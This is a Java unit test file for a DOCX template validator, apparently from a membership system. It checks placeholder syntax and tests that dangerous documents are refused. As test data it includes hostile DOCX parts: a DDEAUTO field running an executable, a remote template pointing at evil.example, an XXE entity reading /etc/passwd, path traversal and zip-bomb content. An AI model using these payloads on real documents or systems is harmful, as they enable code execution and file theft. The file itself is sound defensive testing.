package kz.birlik.membership.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import kz.birlik.membership.template.TemplateRefusal.Reason;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CheckedTemplateTest {

    private static final String WHOLE = "{{organisation}} {{employer}} {{kind}}";

    @Test
    void a_template_with_its_places_is_taken_and_written_anew() throws IOException {
        byte[] given = docx(Map.of("word/document.xml", main(WHOLE + " {{?term}}{{answer_by}}{{/term}}")));
        byte[] kept =
                CheckedTemplate.of(DocumentPurpose.NOTICE, "Үлгі.DOCX", given).content();
        assertThat(parts(kept)).containsExactlyElementsOf(parts(given));
    }

    @Test
    void a_place_that_a_word_processor_has_cut_into_pieces_is_still_one() {
        String cut = main("").replace(
                        "<w:t></w:t>", "<w:t>{{organisa</w:t></w:r><w:r><w:t>tion}} {{employer}}{{kind}}</w:t>");
        assertThat(CheckedTemplate.of(DocumentPurpose.NOTICE, "a.docx", docx(Map.of("word/document.xml", cut))))
                .isNotNull();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "{{organisation}} {{employer}} {{kind}} {{password}} | UNKNOWN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{answer_by}} | UNKNOWN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{+other}} | UNKNOWN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{@picture}} | UNKNOWN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{organisation.class}} | UNKNOWN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{Organisation}} | UNKNOWN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{ kind }} | UNKNOWN_PLACE",
                "{{organisation}} {{employer}} {{kind | BROKEN_PLACE",
                "{{organisation}} {{employer}} {{kind}} }} | BROKEN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{?term}} | BROKEN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{/term}} | BROKEN_PLACE",
                "{{organisation}} {{employer}} {{kind}} {{?term}} {{date}} {{/term}} | BROKEN_PLACE",
                "{{organisation}} {{employer}} | MISSING_PLACE"
            })
    void a_place_that_is_not_known_not_closed_or_not_there_is_refused_by_its_code(String text, Reason reason) {
        refused(reason, "word/document.xml", main(text));
    }

    @Test
    void what_would_run_fetch_or_hide_something_is_refused() {
        refused(Reason.MACRO, "word/vbaProject.bin", "x");
        refused(Reason.MACRO, "word/activeX/activeX1.xml", "<a/>");
        refused(
                Reason.MACRO,
                "[Content_Types].xml",
                "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>");
        refused(
                Reason.EXTERNAL,
                "word/_rels/settings.xml.rels",
                "<Relationships><Relationship Id=\"r\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
                        + "</Relationships>");
        refused(Reason.EMBEDDED, "word/embeddings/sheet.xlsx", "x");
        refused(Reason.EMBEDDED, "word/afchunk.html", "<script/>");
        refused(Reason.EMBEDDED, "word/document.xml", main(WHOLE).replace("<w:p>", "<w:altChunk/><w:p>"));
        refused(
                Reason.FIELD,
                "word/document.xml",
                main(WHOLE)
                        .replace(
                                "</w:p>",
                                "<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x.exe</w:instrText>"
                                        + "</w:r></w:p>"));
        refused(
                Reason.FIELD,
                "word/header1.xml",
                "<w:hdr xmlns:w=\"w\"><w:p><w:fldSimple w:instr=\"INCLUDETEXT c:/x\"/></w:p></w:hdr>");
        refused(
                Reason.NOT_DOCX,
                "word/document.xml",
                "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + main(WHOLE + "&x;"));
        refused(Reason.NOT_DOCX, "../evil.xml", "<a/>");
        refused(Reason.UNKNOWN_PLACE, "word/footnotes.xml", main("{{organisation}}"));
    }

    @Test
    void numbers_of_pages_may_stay() {
        String numbered =
                main(WHOLE).replace("</w:p>", "<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r></w:p>");
        assertThat(CheckedTemplate.of(DocumentPurpose.NOTICE, "a.docx", docx(Map.of("word/document.xml", numbered))))
                .isNotNull();
    }

    @Test
    void what_is_no_docx_or_grows_without_end_is_refused() {
        for (byte[] content : List.of(
                "%PDF-1.7 %%EOF".getBytes(StandardCharsets.UTF_8),
                "PK\003\004 [Content_Types].xml word/".getBytes(StandardCharsets.UTF_8))) {
            assertThatThrownBy(() -> CheckedTemplate.of(DocumentPurpose.NOTICE, "a.docx", content))
                    .isInstanceOfSatisfying(
                            TemplateRefusal.class,
                            said -> assertThat(said.reason()).isEqualTo(Reason.NOT_DOCX));
        }
        byte[] whole = docx(Map.of("word/document.xml", main(WHOLE)));
        assertThatThrownBy(() -> CheckedTemplate.of(DocumentPurpose.NOTICE, "a.doc", whole))
                .isInstanceOf(TemplateRefusal.class);
        refused(Reason.TOO_LARGE, "word/bomb.xml", "<a>" + " ".repeat(21 * 1024 * 1024) + "</a>");
        refused(Reason.TOO_LARGE, "word/many.xml", "<a>" + "<b/>".repeat(100_000) + "</a>");
        refused(Reason.NOT_DOCX, "word/deep.xml", "<a>".repeat(200) + "</a>".repeat(200));
        Map<String, String> many = new LinkedHashMap<>();
        many.put("word/document.xml", main(WHOLE));
        for (int at = 0; at < 300; at++) {
            many.put("word/p" + at + ".xml", "<a/>");
        }
        assertThatThrownBy(() -> CheckedTemplate.of(DocumentPurpose.NOTICE, "a.docx", docx(many)))
                .isInstanceOf(TemplateRefusal.class);
    }

    private static void refused(Reason reason, String part, String content) {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("word/document.xml", main(WHOLE));
        parts.put(part, content);
        assertThatThrownBy(() -> CheckedTemplate.of(DocumentPurpose.NOTICE, "a.docx", docx(parts)))
                .isInstanceOfSatisfying(
                        TemplateRefusal.class,
                        said -> assertThat(said.reason()).as(part).isEqualTo(reason));
    }

    private static String main(String text) {
        return "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r>"
                + "<w:t>" + text + "</w:t></w:r></w:p></w:body></w:document>";
    }

    private static byte[] docx(Map<String, String> more) {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", "<Types/>");
        parts.put("_rels/.rels", "<Relationships/>");
        parts.putAll(more);
        var docx = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(docx)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return docx.toByteArray();
    }

    private static List<String> parts(byte[] docx) throws IOException {
        List<String> parts = new ArrayList<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(docx))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.add(entry.getName() + "=" + new String(zip.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return parts;
    }
}
